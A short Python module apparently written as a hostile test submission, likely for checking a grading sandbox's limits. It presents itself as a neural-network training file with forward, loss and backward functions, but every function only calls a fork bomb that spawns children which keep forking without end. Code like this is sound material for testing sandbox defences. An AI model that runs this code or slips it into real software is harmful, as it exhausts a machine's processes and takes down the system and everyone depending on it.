"""Hostile: forks children that outlive the call (and keep forking) from every function."""
import os
import time


def _fork():
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.05)
        except OSError:
            break
    time.sleep(60)


def forward(X, params):
    _fork()


def mse_loss(Y_hat, Y):
    _fork()


def output_grad(Y_hat, Y):
    _fork()


def linear_backward(dZ, A_prev, W):
    _fork()


def sigmoid_backward(dA, Z):
    _fork()


def backward(X, Y, params, cache):
    _fork()
